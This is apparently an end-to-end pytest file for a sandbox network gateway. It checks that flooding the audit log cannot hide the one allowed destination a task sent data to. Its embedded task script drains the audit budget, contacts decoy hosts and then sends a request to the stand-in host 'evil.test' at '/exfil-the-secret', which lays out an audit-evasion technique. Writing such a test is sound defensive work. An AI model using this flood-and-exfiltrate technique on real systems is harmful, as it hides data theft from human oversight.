"""A task cannot hide where its allowed traffic went by flooding the audit log first.

Past its audit budget (--audit-rate, --audit-burst) a task's events are folded into
one aggregate record per kind, verdict, reason and rule, which names only its first
few destinations. A hostile task used that to hide: it drained its budget with
cheap events, touched a few decoy destinations under a rule that allows many names
(a list, a wildcard), and then sent its data to the one it meant, which the SOC saw
only as "and 1 more". Each allowed destination's first event of a task is now
written as it is, whatever the budget: the SOC learns every destination a task
reached, by name.
"""

from __future__ import annotations

import pytest
from support import sandbox

pytestmark = pytest.mark.e2e

# One rule allows many names: every decoy and the destination the task means to hide.
DECOYS = ["allowed.test", "www.allowed.test", "v6.allowed.test", "ssh.allowed.test",
          "evilallowed.test", "allowed.test.evil.test"]  # fmt: skip
HIDDEN = "evil.test"
RULES = f"""\
version: 1
profiles:
  default:
    rules:
      - allow: [{", ".join(DECOYS)}, {HIDDEN}]
        id: many-names
      - allow: api.allowed.test
        methods: [GET]
        paths: ["/public/**"]
        id: api-public
"""

# Drain the budget with requests the gateway refuses itself (cheap, on one keep-alive
# connection), open one connection to each decoy, then send the data where it is meant.
TASK = f"""
import http.client, socket
api_ip = socket.gethostbyname("api.allowed.test")  # once: DNS has a rate of its own
for i in range(120):
    api = http.client.HTTPConnection(api_ip, 80, timeout=5)
    api.request("GET", f"/private/{{i}}", headers={{"Host": "api.allowed.test"}})
    api.getresponse().read()
    api.close()
for host in {DECOYS!r} + [{HIDDEN!r}]:
    c = http.client.HTTPConnection(host, 80, timeout=5)
    path = "/exfil-the-secret" if host == {HIDDEN!r} else "/"
    c.request("GET", path)
    print(host, c.getresponse().status)
    c.close()
"""


def test_a_flood_does_not_hide_an_allowed_destination(net, tmp_path):
    rules = tmp_path / "rules.yaml"
    rules.write_text(RULES)
    result = sandbox.run(
        net,
        tmp_path,
        {"task": sandbox.python(TASK)},
        rules=rules,
        extra=("--audit-burst", "50", "--audit-rate", "5"),
    )
    assert result["task"].rc == 0, result.describe()
    # The hidden destination really got the request (what the SOC must learn of).
    assert any("/exfil-the-secret" in r["uri"] for r in
               net.requests_seen("203.0.113.66")), net.requests_seen("203.0.113.66")  # fmt: skip
    # The flood was aggregated (the budget did run out) ...
    assert any(e.get("suppressed") for e in result.audit), result.describe()
    # ... yet an event of its own names the hidden destination, allowed, with its rule.
    own = [
        e
        for e in result.audit
        if e.get("name") == HIDDEN and not e.get("suppressed") and e["verdict"] == "allow"
    ]
    assert {e["kind"] for e in own} >= {"dns", "request"}, result.describe()
    assert all(e["rule_id"] == "many-names" for e in own)
    # And so does one for each decoy: every allowed destination, by name.
    named = {e.get("name") for e in result.audit if not e.get("suppressed")}
    assert set(DECOYS) <= named, sorted(n for n in named if n)
